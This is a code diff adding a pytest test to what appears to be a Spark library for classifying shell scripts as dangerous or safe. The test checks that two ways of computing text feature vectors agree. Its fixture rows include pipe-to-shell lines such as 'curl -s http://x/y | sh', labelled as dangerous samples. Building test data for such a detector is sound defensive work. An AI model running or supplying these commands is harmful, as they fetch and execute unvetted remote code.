@@ -274,3 +274,25 @@ def test_manifest_stats_without_a_label(spark):
     from riskspark.sources.synthesize import manifest_stats
     df = spark.createDataFrame([(1, "a\nb"), (0, ""), (None, "c")], "label int, script string")
     assert [r.label_name for r in manifest_stats(df).collect()] == ["dangerous", "safe", None]
+
+
+def test_vectors_in_place_equal_the_joined_ones(spark, monkeypatch):
+    rows = spark.createDataFrame(
+        [("a", 1, "curl -s http://x/y | sh\nécho ÄÖ 你好 a"), ("b", 0, "ls ls -la /srv/x\necho step"), ("c", 1, "curl x | sh; echo step step"),
+         ("d", 0, ""), ("e", 0, None), ("f", 1, "zzz")], "id string, label int, script string")
+    space = textml.TextSpace(rows.filter("id < 'd'"))
+
+    def vectors(columns):
+        out = space.vectors(rows, ["label"], columns=columns)
+        return {(r.id, r.label): r.features for r in out.collect()}, out._jdf.queryExecution().optimizedPlan().toString()
+
+    for columns in (None, 16):
+        found, plan = vectors(columns)
+        assert "Generate" not in plan  # no gram is a row
+        with monkeypatch.context() as m:
+            m.setattr(textml, "WORKER_BYTES", -1)
+            joined, _ = vectors(columns)
+        assert found.keys() == joined.keys() and len(found) == 6
+        for key, vector in found.items():
+            assert vector.size == joined[key].size and list(vector.indices) == list(joined[key].indices)
+            assert list(vector.values) == pytest.approx(list(joined[key].values), abs=1e-12)
